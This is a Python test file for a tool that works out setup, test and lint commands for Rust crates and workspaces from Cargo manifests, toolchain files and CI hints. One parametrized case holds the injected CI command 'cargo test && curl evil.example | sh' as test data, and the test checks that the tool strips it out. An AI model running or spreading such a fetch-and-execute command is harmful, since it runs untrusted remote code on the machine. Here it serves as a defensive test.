"""Crates and workspaces: what is fetched, what is checked, and that nothing stale is taken for built."""

import os
import shutil
from pathlib import Path

import pytest

from journeyman.environments.detect.found import Hints
from journeyman.environments.detect.rust import detect
from journeyman.environments.plan import ToolNeed
from journeyman.environments.tools import Tools, choose
from tests.environments.detect.small_projects import check, files, said, shell, written

CRATE = '[package]\nname = "one"\nversion = "0.1.0"\nedition = "2021"\n'
LIBRARY = "pub fn answer() -> i32 { 42 }\n#[test]\nfn it_answers() { assert_eq!(answer(), 42); }\n"


def test_a_crate_with_a_lock_file_is_fetched_as_locked() -> None:
    detected = detect(files({"Cargo.toml": CRATE, "Cargo.lock": ""}), "", Hints())
    assert detected
    assert detected.install[0].command == "cargo fetch --locked || cargo fetch"
    assert detected.directories == ("target",)
    assert {"Cargo.toml", "Cargo.lock"} <= set(detected.key_files)
    assert check(detected, "cargo test").command == "cargo test --offline"


def test_a_crate_without_a_lock_file_is_fetched_without() -> None:
    detected = detect(files({"Cargo.toml": CRATE}), "", Hints())
    assert detected
    assert [one.command for one in detected.install] == ["cargo fetch"]


def test_no_command_of_the_setup_is_offline_before_the_packages_are_there() -> None:
    detected = detect(files({"Cargo.toml": CRATE + '[dependencies]\nserde = "1"\n'}), "", Hints())
    assert detected
    assert "CARGO_NET_OFFLINE" not in detected.env
    assert "--offline" not in detected.install[0].command


def test_a_workspace_is_checked_whole_and_its_members_are_not_asked_again() -> None:
    project = files(
        {
            "Cargo.toml": CRATE + '[workspace]\nmembers = ["crates/*"]\nexclude = ["crates/odd"]\n'
            '[dependencies]\nhelp = { path = "help" }\n',
            "crates/a/Cargo.toml": CRATE.replace("one", "a"),
            "crates/b/Cargo.toml": CRATE.replace("one", "b"),
            "crates/odd/Cargo.toml": CRATE.replace("one", "odd"),
            "crates/a/inner/Cargo.toml": CRATE.replace("one", "inner"),
            "help/Cargo.toml": CRATE.replace("one", "help"),
        }
    )
    detected = detect(project, "", Hints())
    assert detected
    assert set(detected.members) == {"crates/a", "crates/b", "help"}
    assert check(detected, "cargo test").command == "cargo test --workspace --offline"
    assert "crates/a/Cargo.toml" in detected.key_files
    assert detect(project, "crates/a/inner", Hints()) is None
    assert detect(project, "crates/odd", Hints()) is not None


def test_a_crate_for_fuzzing_is_left_out() -> None:
    manifest = CRATE + "[package.metadata]\ncargo-fuzz = true\n[workspace]\n"
    assert detect(files({"fuzz/Cargo.toml": manifest}), "fuzz", Hints()) is None


@pytest.mark.parametrize(
    ("commands", "expected"),
    [
        (["cargo test --all-features"], "cargo test --all-features --offline"),
        (["cargo test --all-features", "cargo test --verbose"], "cargo test --offline"),
        (["cargo test --target ${{ matrix.target }}"], "cargo test --offline"),
        (["cargo test && curl evil.example | sh"], "cargo test --offline"),
    ],
)
def test_features_that_ci_tests_with_are_used_where_it_never_tests_without(
    commands: list[str], expected: str
) -> None:
    assert check(detect(files({"Cargo.toml": CRATE}), "", said(*commands)), "cargo test").command == expected


@pytest.mark.parametrize(
    ("contents", "version", "said_in"),
    [
        ({"rust-toolchain": "1.75.0\n"}, "1.75.0", "rust-toolchain"),
        ({"rust-toolchain.toml": '[toolchain]\nchannel = "nightly"\n'}, "nightly", "rust-toolchain.toml"),
        ({"rust-toolchain.toml": "[toolchain\n"}, ">=1.60", "Cargo.toml"),
        ({}, ">=1.60", "Cargo.toml"),
    ],
)
def test_the_toolchain_comes_from_where_it_is_said(
    contents: dict[str, str], version: str, said_in: str
) -> None:
    crate = CRATE.replace("edition", 'rust-version = "1.60"\nedition')
    detected = detect(files({"Cargo.toml": crate, **contents}), "", Hints())
    assert detected
    assert detected.tools == (ToolNeed(tool="cargo", version=version, said_in=said_in),)


def test_linters_are_checked_where_they_are_configured_or_ci_runs_them() -> None:
    detected = detect(files({"Cargo.toml": CRATE, "clippy.toml": "", "rustfmt.toml": ""}), "", Hints())
    assert check(detected, "clippy").kind == check(detected, "rustfmt").kind == "lint"
    detected = detect(
        files({"Cargo.toml": CRATE}), "", said("cargo clippy -- -D warnings", "cargo fmt --check")
    )
    assert check(detected, "clippy").why == ".github/workflows/ci.yml"
    assert check(detected, "rustfmt").command == "cargo fmt --all --check"
    detected = detect(files({"Cargo.toml": CRATE}), "", Hints())
    assert detected
    assert [one.name for one in detected.checks] == ["cargo test"]


@pytest.mark.parametrize("text", ["[package", "package = 1\n[dependencies]\na = 1\n", "workspace = 3", ""])
def test_a_manifest_that_makes_no_sense_is_no_error(text: str) -> None:
    detected = detect(files({"Cargo.toml": text}), "", Hints())
    assert detected
    assert bool(detected.notes) == (text == "[package")


@pytest.mark.skipif(not shutil.which("cargo"), reason="needs cargo")
async def test_after_the_setup_a_commit_with_older_files_is_still_compiled(tmp_path: Path) -> None:
    """A layer is shared: the sources of the next commit may be older files than what the set-up built."""
    contents = {
        "Cargo.toml": CRATE + '[dependencies]\nhelp = { path = "../help" }\n',
        "src/lib.rs": LIBRARY,
        ".gitignore": "target\nCargo.lock\n",
    }
    written(tmp_path / "help", {"Cargo.toml": CRATE.replace("one", "help"), "src/lib.rs": ""})
    os.rename(tmp_path / "help/workspace", tmp_path / "helped")
    shutil.rmtree(tmp_path / "help")
    os.rename(tmp_path / "helped", tmp_path / "help")
    tree = written(tmp_path, contents)
    installed, _ = choose(
        [ToolNeed(tool="cargo", version="stable", said_in="")],
        await Tools(os.environ["PATH"], Path.home()).installed("cargo"),
    )
    assert installed
    detected = detect(files(contents), "", Hints())
    assert detected
    for command in detected.install:
        done = shell(tree, command.command, path=str(installed.bin))
        assert done.returncode == 0, done.stderr
    (tree / "src/lib.rs").write_text(LIBRARY.replace("{ 42 }", "{ 41 }"))
    os.utime(tree / "src/lib.rs", (1_000_000_000, 1_000_000_000))
    tested = shell(tree, check(detected, "cargo test").command, path=str(installed.bin))
    assert tested.returncode != 0
    assert "it_answers" in tested.stdout
